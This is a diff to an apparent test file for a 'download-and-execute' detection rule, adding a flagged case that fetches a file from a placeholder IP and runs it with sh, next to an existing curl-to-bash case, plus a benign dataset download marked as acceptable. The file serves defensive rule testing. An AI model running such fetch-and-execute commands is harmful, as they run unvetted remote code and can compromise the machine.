@@ -180,6 +180,16 @@ def curl_pipe_sh():
     os.system("curl -fsSL https://203.0.113.7/install.sh | bash")
 
 
+def wget_then_sh():
+    # ruleid: download-and-execute
+    os.system("wget http://203.0.113.7/a -O /tmp/a && sh /tmp/a")
+
+
+def fetch_data_then_prepare():
+    # ok: download-and-execute
+    os.system("wget -q https://data.example/cifar.tgz -O cifar.tgz && tar xzf cifar.tgz")
+
+
 def download_dataset(url, dest):
     data = requests.get(url, timeout=30).content
     # ok: download-and-execute
